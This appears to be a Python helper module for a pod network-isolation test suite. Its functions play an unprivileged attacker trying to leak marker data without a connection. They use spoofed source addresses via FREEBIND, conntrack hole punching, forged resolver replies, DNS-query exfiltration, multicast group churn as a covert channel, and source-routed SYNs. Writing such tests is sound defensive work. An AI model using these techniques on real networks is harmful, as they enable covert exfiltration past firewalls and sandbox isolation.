"""What an unprivileged attacker in the pod does to get data out without a connection (issue 10).

Each function runs in a forked child inside the pod as some uid (see wire.in_pod), needs no
capability, returns a JSON-able dict saying what the kernel let it do, and is bounded in time.
The tests judge none of these answers: the capture on the world side is the judge.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import time
from typing import Any

IPV6_FREEBIND = 78  # linux/in6.h; Python has no constant for it
IP_FREEBIND = 15
IP_ADD_SOURCE_MEMBERSHIP = 39
MCAST_JOIN_SOURCE_GROUP = 46
IPV6_RTHDR = 57
IP_OPTIONS = 4


def _fam(addr: str) -> int:
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def _freebind(s: socket.socket, fam: int) -> None:
    if fam == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)


def forged(kind: str, src: str, sport: int, dst: str, dport: int, marker: str) -> dict[str, Any]:
    """One packet from the foreign address `src` (IPV6_FREEBIND / IP_FREEBIND): an ICMP echo
    carrying `marker` ("echo"), a UDP datagram carrying it ("udp"), or a SYN from src:sport ("syn")."""
    fam = _fam(dst)
    if kind == "echo":
        proto = socket.IPPROTO_ICMPV6 if fam == socket.AF_INET6 else socket.IPPROTO_ICMP
        s = socket.socket(fam, socket.SOCK_DGRAM, proto)
    else:
        s = socket.socket(fam, socket.SOCK_STREAM if kind == "syn" else socket.SOCK_DGRAM)
    with s:
        _freebind(s, fam)
        s.bind((src, sport))
        if kind == "echo":
            s.sendto(struct.pack("!BBHHH", 128 if fam == socket.AF_INET6 else 8, 0, 0, 0, 1) + marker.encode() * 8,
                     (dst, 0))
        elif kind == "udp":
            s.sendto(marker.encode() * 8, (dst, dport))
        else:
            s.setblocking(False)
            err = s.connect_ex((dst, dport))
            time.sleep(0.2)  # the SYN (and any answer to it) leaves at once; closing then sends nothing
            return {"connect": err}
    return {"sent": kind}


def hole_punch(x: str, xport: int, local: str, lport: int, marker: str) -> dict[str, Any]:
    """A forged knock from x:xport to local:lport over loopback, then a normal socket on local:lport
    sends `marker` to x:xport, where conntrack now sees a reply."""
    fam = _fam(x)
    out: dict[str, Any] = {}
    with socket.socket(fam, socket.SOCK_DGRAM) as inside, socket.socket(fam, socket.SOCK_DGRAM) as knock:
        inside.bind((local, lport))  # listening first: the knock is taken, so no ICMP error quotes it
        inside.settimeout(0.3)
        _freebind(knock, fam)
        knock.bind((x, xport))
        knock.sendto(b"knock", (local, lport))
        try:
            inside.recvfrom(64)
            out["knock"] = "received"
        except OSError as exc:
            out["knock"] = type(exc).__name__
        try:
            inside.sendto(marker.encode() * 8, (x, xport))
            out["reply"] = "sent"
        except OSError as exc:
            out["reply"] = type(exc).__name__
    return out


def spoofed_reply(x: str, xport: int, server: str, sport: int, knock: str, marker: str) -> dict[str, Any]:
    """A forged knock from x:xport to server:sport (e.g. the resolver's 53), then a socket bound to
    server:sport (IPV6_FREEBIND again) sends `marker` to x:xport as if the server answered."""
    fam = _fam(x)
    out: dict[str, Any] = {}
    with socket.socket(fam, socket.SOCK_DGRAM) as k, socket.socket(fam, socket.SOCK_DGRAM) as r:
        _freebind(k, fam)
        k.bind((x, xport))
        try:
            k.sendto(knock.encode() * 8, (server, sport))
            out["knock"] = "sent"
        except OSError as exc:
            out["knock"] = type(exc).__name__
        _freebind(r, fam)
        r.bind((server, sport))
        try:
            r.sendto(marker.encode() * 8, (x, xport))
            out["reply"] = "sent"
        except OSError as exc:
            out["reply"] = type(exc).__name__
    return out


def dns_query(src: str, sport: int, resolver: str, marker: str) -> dict[str, Any]:
    """A DNS query for <marker>.example from the foreign address src: the resolver answers src."""
    fam = _fam(resolver)
    label = marker.encode()
    q = struct.pack("!HHHHHH", 0x4567, 0x0100, 1, 0, 0, 0)
    q += bytes([len(label)]) + label + b"\x07example\x00" + struct.pack("!HH", 1, 1)
    with socket.socket(fam, socket.SOCK_DGRAM) as s:
        _freebind(s, fam)
        s.bind((src, sport))
        s.sendto(q, (resolver, 53))
    return {"sent": "query"}


def join_groups(iface: str, local_v4: str, groups: list[str], sources: list[list[str]], hold: float) -> dict[str, Any]:
    """Join multicast groups on `iface` (any-source for `groups`, source-specific for each
    [group, source] in `sources`), keep them `hold` seconds, then leave (closing the sockets)."""
    ifindex = socket.if_nametoindex(iface)
    s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    joined: list[str] = []
    errors: list[str] = []
    try:
        for g in groups:
            try:
                if ":" in g:
                    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                                  socket.inet_pton(socket.AF_INET6, g) + struct.pack("@I", ifindex))
                else:
                    s4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                                  socket.inet_aton(g) + socket.inet_aton(local_v4))
                joined.append(g)
            except OSError as exc:
                errors.append(f"{g}: {exc}")
        for g, src in sources:
            try:
                if ":" in g:
                    s6.setsockopt(socket.IPPROTO_IPV6, MCAST_JOIN_SOURCE_GROUP,
                                  struct.pack("@I4x", ifindex) + _storage6(g) + _storage6(src))
                else:
                    s4.setsockopt(socket.IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP,
                                  socket.inet_aton(g) + socket.inet_aton(local_v4) + socket.inet_aton(src))
                joined.append(f"{g}/{src}")
            except OSError as exc:
                errors.append(f"{g}/{src}: {exc}")
        time.sleep(hold)
    finally:
        s4.close()
        s6.close()
    return {"joined": joined, "errors": errors}


def _storage6(addr: str) -> bytes:
    sin6 = struct.pack("@H", socket.AF_INET6) + struct.pack("!HI", 0, 0) + socket.inet_pton(socket.AF_INET6, addr)
    return (sin6 + struct.pack("@I", 0)).ljust(128, b"\0")


def solicited_node(value: int) -> str:
    """ff02::1:ffXX:XXXX: the group whose low 24 bits are `value`."""
    return str(ipaddress.IPv6Address(int(ipaddress.IPv6Address("ff02::1:ff00:0")) | (value & 0xFFFFFF)))


def churn_solicited_node(iface: str, first: int, seconds: float, batch: int, limit: int) -> dict[str, Any]:
    """Join `batch` solicited-node groups first, first+1, ... at a time, then leave them, for `seconds`
    (at most `limit` groups): each join and leave makes the kernel report groups the attacker chose."""
    ifindex = socket.if_nametoindex(iface)
    deadline = time.monotonic() + seconds
    done = 0
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        while done + batch <= limit and time.monotonic() < deadline:
            mreqs = [socket.inet_pton(socket.AF_INET6, solicited_node(first + done + i)) + struct.pack("@I", ifindex)
                     for i in range(batch)]
            for mreq in mreqs:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
            time.sleep(0.05)
            for mreq in mreqs:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_LEAVE_GROUP, mreq)
            done += batch
    return {"groups": done}


def syn_on_device(device: str, sport: int, dst: str, dport: int) -> dict[str, Any]:
    """A SYN from a socket bound to `device` (SO_BINDTODEVICE, no privilege needed) and port `sport`."""
    fam = _fam(dst)
    with socket.socket(fam, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", sport))
        s.setblocking(False)
        err = s.connect_ex((dst, dport))
        time.sleep(0.2)
    return {"connect": err}


def syn_via_route(first_hop: str, final: str, dport: int, sport: int) -> dict[str, Any]:
    """A SYN to `final` that the packet's header addresses to `first_hop` first: an IPv6 segment
    routing header (type 4, IPV6_RTHDR) or an IPv4 loose source route (IP_OPTIONS LSRR)."""
    fam = _fam(final)
    with socket.socket(fam, socket.SOCK_STREAM) as s:
        if fam == socket.AF_INET6:
            # segments[0] is overwritten with the connect() address; the packet goes to segments[1] first
            srh = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + bytes(16) + socket.inet_pton(socket.AF_INET6, first_hop)
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh)
        else:
            lsrr = bytes([1, 131, 7, 4]) + socket.inet_aton(first_hop)
            s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, lsrr)
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", sport))
        s.setblocking(False)
        err = s.connect_ex((final, dport))
        time.sleep(0.2)
    return {"connect": err}


def syn_from(sport: int, dst: str, dport: int) -> dict[str, Any]:
    """A plain SYN from port `sport` (the port is the marker)."""
    fam = _fam(dst)
    with socket.socket(fam, socket.SOCK_STREAM) as s:
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", sport))
        s.setblocking(False)
        err = s.connect_ex((dst, dport))
        time.sleep(0.2)
    return {"connect": err}
